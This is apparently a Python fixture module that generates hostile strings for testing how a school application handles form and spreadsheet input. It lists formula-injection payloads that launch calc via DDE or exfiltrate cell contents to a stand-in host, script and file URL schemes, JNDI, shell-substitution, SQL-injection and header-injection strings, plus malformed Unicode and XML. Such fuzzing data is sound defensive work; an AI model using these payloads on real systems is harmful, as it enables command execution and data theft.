"""Texts and addresses nobody should type into a form, and everybody might."""

from __future__ import annotations

import itertools
from typing import Final

LONGEST: Final = 32_767

_LIVE: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://зло.example/?\"&A1;\"смотри\")",
    "=WEBSERVICE(\"http://127.0.0.1/\"&B2)", "=IMPORTXML(\"http://127.0.0.1/\",\"//a\")", "=DDE(\"cmd\";\"/c calc\";\"1\")",
    "+cmd|' /C notepad'!'A1'", "@cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0", "=[чужая.xlsx]Лист1!A1", "='\\\\10.0.0.1\\c$\\[a.xlsx]A'!A1",
    "{=SUM(1;2)}", "=1+1\";=2+2", "'=1+1", "\"=1+1\"", "=", "+", "-", "@", "'", "- проведено", "+7 отзывов", "@все",
)  # fmt: skip
_STARTS: Final = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\x0b",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "'",
    "''",
    ";",
    ",",
    "|",
    "\x1b[31m",
    "％",
    "%0A",
)
_WIDE: Final = str.maketrans("=+-@", "＝＋－＠")
_ADDRESSES: Final = (
    "file:///C:/Users/секретарь/приказ.pdf", "\\\\10.0.0.1\\share\\приказ.docx", "//10.0.0.1/share", "smb://10.0.0.1/c$",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "ms-excel:ofe|u|http://зло.example/a.xlsx", "ms-word:nft|u|http://a.example", "mailto:a", "tel:1", "ftp://a.example/b", "mhtml:http://a.example",
    "search-ms:query=a", "cmd:calc", "http:////10.0.0.1/a", "http:\\\\10.0.0.1\\a", "http:/a", "http://", "https://?", "http://@", "http://#a", "http://a b.example/ c",
    "http://user:pass@a.example/", "http://xn--80ak6aa92e.example/", "http://аррӏе.example/", "http://[::1]/a", "http://[", "http://a.example:99999/", "http://a.example/%zz%00",
    "http://a.example/\r\nSet-Cookie: x", "http://a.example/\tb", "http://a.example/\"onclick=\"x", "http://a.example/'>&<b>", "http://a.example/#'Лист 1'!A1",
    "http://a.example/?q=" + "я" * 2_100, "https://a.example/" + "x" * 5_000, "HTTP://A.EXAMPLE/Ж", " http://a.example ", "http://a.example/\u202egnp.exe",
    "#'Исполнение'!A1", "#REF!", "#Лист1!A1", "about:blank", "res://a", "\\\\?\\C:\\a", "C:\\приказ.docx", "../приказ.docx", "%USERPROFILE%\\a",
)  # fmt: skip
_ODD: Final = (
    "_x0041_", "_x005F_", "_x000D_", "_x_", "_x00zz_", "_xD800_", "_xFFFF_", "_x0000_", "__x0041__", "_x0041", "x_x0041_x0042_",
    "\x01\x02\x03", "a\x00b", "\x07\x08", "\x1b]0;захват\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://a.example\x07тут\x1b]8;;\x07", "\x9b31mкрасный", "\x7f", "\x85", "\u2028", "\u2029", "\ufffe", "\uffff",
    "<f>1+1</f>", "</t></is></c><c r=\"A1\"><f>1</f>", "&lt;b&gt;", "&amp;amp;", "&#0;", "]]>", "<![CDATA[x]]>", "<!--", "<?xml?>", "\"'<>&", "&evil;",
    "😀👨‍👩‍👧", "\U0010ffff", "e\u0301", "\u202eабв\u202c", "\u2066x\u2069", "\u200fא", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﷺ", "\u0600", "ı İ ß ſ",
    "1E5", "1e308", "0x1F", "2.10", "1/2", "01.02.2026", "12:30", "ИСТИНА", "TRUE", "#Н/Д", "#N/A", "#DIV/0!", "май 2026", "1 января", "50 %", "1 000,5", "(5)", "$5", "NaN", "inf", "null",
    " пробелы по краям ", "\tтабуляция\t", "\n\nпустые строки\n\n", "a\r\nb\rc\nd", "  два  пробела  ", ":100: [bold]жирный[/bold] [link=http://a.example]тут[/link]", "[/]", "{0} {name} %s %(a)s", "${jndi:ldap://a}", "`id`", "$(id)", "; DROP TABLE answers; --", "%n%x",
    "x" * LONGEST, "=" * LONGEST, "щ" * LONGEST, "😀" * (LONGEST // 2), "\x01" * 5_000, "a\n" * 5_000, "&" * LONGEST, "_x0041_" * 4_000,
)  # fmt: skip


def addresses() -> list[str]:
    """Targets of links, as a school may type or hang them on a cell."""
    return list(_ADDRESSES)


def texts(at_least: int) -> list[str]:
    """Different hostile texts, the plainest first; as many as asked for and a little more."""
    live = [*_LIVE, *(one.translate(_WIDE) for one in _LIVE)]
    found = dict.fromkeys(
        (*_LIVE, *_ODD, *_ADDRESSES, *(f"{a}{b}" for a, b in itertools.product(_STARTS, live)))
    )
    number = 0
    while len(found) < at_least:
        number += 1
        found |= dict.fromkeys(f"{one}{number}" for one in (*live, *_ADDRESSES[:30], *_ODD[:60]))
    return [one for one in found if one.strip()]
